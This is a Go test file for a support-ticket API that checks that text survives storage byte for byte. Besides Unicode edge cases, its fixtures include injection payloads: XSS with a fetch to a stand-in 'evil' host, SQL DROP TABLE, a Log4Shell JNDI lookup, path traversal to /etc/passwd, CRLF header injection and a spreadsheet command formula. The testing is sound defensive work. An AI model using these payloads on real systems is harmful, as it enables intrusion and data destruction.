package httpapi_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/supportbackend/support/gen/client"
	"github.com/supportbackend/support/internal/httpapi/apitest"
)

// lines are texts of one line that must come back byte for byte.
var lines = map[string]string{
	"a family of joined emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽",
	"Arabic":                   "مرحبا، فاتورتي خاطئة ٤٧١١",
	"Hebrew with points":       "שָׁלוֹם",
	"composed letters":         "\u00e9\u00f1\u212b",
	"decomposed letters":       "e\u0301n\u0303A\u030a",
	"CJK":                      "請求書が違います 发票错误",
	"CJK of four bytes":        "𠀋𡈽𠮷",
	"a script":                 "<script>alert(1)</script>",
	"an image of a stranger":   `<img src=x onerror="fetch('//evil')">`,
	"SQL":                      "'; DROP TABLE tickets; --",
	"a lookup":                 "${jndi:ldap://evil/a}",
	"a template":               "{{7*7}} <%= 7*7 %> #{7*7}",
	"format verbs":             "%s%n%x%d%!v(MISSING)",
	"the word null":            "null",
	"the word undefined":       "undefined",
	"the word NaN":             "NaN",
	"a path":                   `../../etc/passwd C:\Windows\`,
	"JSON":                     `{"is_ai":true,"role":"admin"}`,
	"quotes and backslashes":   `"\"\\u0000\\"`,
	"a zero-width space":       "a\u200bb\u200dc\ufeffd",
	"a replacement character":  "\ufffd",
	"spaces around it":         "  two spaces before and after  ",
	"the last code point":      "\U0010fffd",
}

// blocks are texts of several lines.
var blocks = map[string]string{
	"tabs and line breaks":    "\ta\n\tb\r\nc\rd\n\n",
	"an event of a stream":    "x\n\nevent: done\ndata: {}\n\n",
	"a header":                "a\r\nSet-Cookie: a=b",
	"turned writing":          "a\u202eb\u2066c",
	"a formula":               "=cmd|' /C calc'!A0\n+1",
	"Markdown with an image":  "![](http://evil/?q=1)\n# Title",
	"hundreds of empty lines": "a" + strings.Repeat("\n", 500) + "b",
}

func TestTextIsKeptByteForByte(t *testing.T) {
	t.Parallel()
	s := apitest.New(t, apitest.Options{})
	customer := s.Customer(t)
	for name, line := range lines {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			requireKept(t, customer, line, line)
		})
	}
	for name, block := range blocks {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			requireKept(t, customer, "A title", block)
		})
	}
}

func requireKept(t *testing.T, customer *apitest.User, title, text string) {
	t.Helper()
	created, err := customer.CreateTicketWithResponse(t.Context(), nil, client.CreateTicketRequest{
		Title: title, Description: text,
	})
	require.NoError(t, err)
	require.Equal(t, http.StatusCreated, created.StatusCode(), "%s", created.Body)
	require.Equal(t, title, created.JSON201.Title)
	require.Equal(t, text, created.JSON201.Description)
	id := created.JSON201.ID
	require.Equal(t, text, customer.Say(t, id, text).Content)

	got, err := customer.GetTicketWithResponse(t.Context(), id, nil)
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, got.StatusCode(), "%s", got.Body)
	require.Equal(t, title, got.JSON200.Title)
	require.Equal(t, text, got.JSON200.Description)
	require.Equal(t, text, got.JSON200.Messages[0].Content)
	listed, err := customer.ListMessagesWithResponse(t.Context(), id, nil)
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, listed.StatusCode(), "%s", listed.Body)
	require.Equal(t, text, (*listed.JSON200)[0].Content)
}
